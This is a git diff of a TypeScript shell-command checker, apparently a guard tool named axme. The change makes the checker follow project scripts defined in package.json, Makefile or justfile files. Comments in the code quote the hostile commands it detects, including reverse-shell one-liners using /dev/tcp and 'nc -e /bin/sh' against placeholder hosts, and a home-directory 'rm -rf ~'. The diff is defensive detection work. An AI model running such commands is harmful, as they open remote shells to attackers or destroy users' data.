@@ -25,6 +25,7 @@ import { madeLink } from './made-links.ts';
 import { type PathKind, resolvePath } from './paths.ts';
 import type { Policy } from './policy.ts';
 import { type PrLookup, type PrState, prFinding } from './pr-gate.ts';
+import { type FileText, type ProjectRun, ProjectScripts } from './project-scripts.ts';
 import { checkRemoteShells } from './remote-shells.ts';
 import { checkMovedAway, checkRemoval } from './removal.ts';
 import { actorEnv, axmeCommand, gitBypasses, gitConfigEnv } from './self-rules.ts';
@@ -63,6 +64,13 @@ export interface EvalContext {
   realpath?: ((path: string) => string | null) | undefined;
   /** what is at an absolute path now: a folder, a file, or null when nothing is or it cannot be told (then a name's spelling decides) */
   pathKind?: ((path: string) => PathKind | null) | undefined;
+  /**
+   * the text of a project's file that defines what a command runs (a package.json, a Makefile, a
+   * justfile: project-scripts.ts), asked only for commands that run a project's script: null when
+   * there is no such file, undefined when it cannot be told (too big, unreadable) — then the
+   * command is judged by its own words
+   */
+  fileText?: FileText | undefined;
   /**
    * axme's own state, which an agent must not change whatever the rules say: the policy cache
    * and sessions (`<git-common-dir>/axme`), the harness settings that install the hooks
@@ -152,6 +160,12 @@ interface Walk {
   links: Map<string, string>;
   /** the files the line has written so far, and what they hold (written-scripts.ts) */
   written: WrittenFiles;
+  /** the project's scripts read from its files (project-scripts.ts), where the context gives a reader */
+  project: ProjectScripts | null;
+  /** the project's scripts this walk runs within, outermost first (`npm run a` whose script runs `npm run b`) */
+  chain: readonly string[];
+  /** the comment of the command that runs the project's script this walk reads: its `#!axme` marker is its git commands' */
+  marker: string | null;
 }
 
 /** Checks a shell command line: every command it would run, each marker it carries. */
@@ -175,6 +189,9 @@ export async function evaluateCommand(command: string, policy: Policy, rawCtx: E
     // each path is charged as its rules run (command-paths.ts): within one command of many paths the check stops when the budget does
     budget: workBudget(ctx.budget, ctx.deadline),
     written: new WrittenFiles(ctx.home),
+    project: ctx.fileText ? new ProjectScripts(ctx.fileText, ctx.home) : null,
+    chain: [],
+    marker: null,
   };
   try {
     walkScript(command, walk, 0);
@@ -290,6 +307,9 @@ function walkScript(src: string, w: Walk, depth: number): void {
     checkCommand(cmd, invocation, w, depth, reading.read(cmd));
     // `systemd-run --service-type oneshot rm -rf ~`: the reading where an unknown option took a value
     for (const alt of alternatives) checkCommand(cmd, alt, w, depth);
+    // `npm run release`, `make deploy`, `just x`: the project's own script, as its file defines it (project-scripts.ts);
+    // after the command's own checks, so that a file the command may not read (`make -f .env`) is denied as that first
+    if (w.project && invocation) for (const run of w.project.runs(invocation, w.cwd, w.chain, w.written)) walkProjectScript(run, cmd.comment, w, depth);
   }
   // commands whose words are produced by other commands, where the consumer runs them as code
   for (const cmd of script.commands) {
@@ -308,6 +328,24 @@ function walkScript(src: string, w: Walk, depth: number): void {
   // `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `cat f | sh | nc h p`: a shell bound to a socket (remote-shells.ts)
   const remote = checkRemoteShells(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
   if (remote) w.findings.push(remote);
+}
+
+/**
+ * Walks what a project's script runs (its lines, in its folder, each a shell of its own) as if
+ * typed; each finding's reason says which script it came from (`package.json scripts.release
+ * runs \`npm publish\`: …`). The `#!axme` marker of the command that runs it (`comment`) is its
+ * git commands' (`npm run version #!axme pr=none repo=o/r`: a script's commit carries none).
+ */
+function walkProjectScript(run: ProjectRun, comment: string | null, w: Walk, depth: number): void {
+  const marker = comment ?? w.marker;
+  // `npm run a && npm run a`, a script every other one runs: its findings are in already
+  if (!w.project!.firstWalk(run, marker)) return;
+  const inner: Walk = { ...w, findings: [], gates: [], fallback: null, chained: false, chain: [...w.chain, run.key], marker };
+  for (const line of run.lines) walkScript(line, { ...inner, cwd: run.cwd }, depth + 1);
+  const oneLine = run.text.replace(/\s*\n\s*/g, '; ');
+  const text = oneLine.length > 120 ? `${oneLine.slice(0, 117)}...` : oneLine;
+  for (const f of inner.findings) w.findings.push({ ...f, reason: `${run.source} runs \`${text}\`: ${f.reason}` });
+  w.gates.push(...inner.gates);
 }
 
 /** A stage that runs the command line it is handed, as an invocation of its first word (`eval`, `watch`): what printsEnvironment reads. */
@@ -468,7 +506,7 @@ function checkCommand(cmd: SimpleCommand, inv: Invocation | null, w: Walk, depth
         listed: (e: string) => !exempt && listed(w.policy, e),
         exempt,
       };
-      for (const f of checkGit(call, cmd.comment, gctx, w.gates)) add(f);
+      for (const f of checkGit(call, cmd.comment ?? w.marker, gctx, w.gates)) add(f);
       if (!exempt && w.policy.families.gitHistory !== 'off') {
         const hit = checkGitHistory(call, fctx);
         if (hit) add(familyFinding('gitHistory', hit, w.policy));
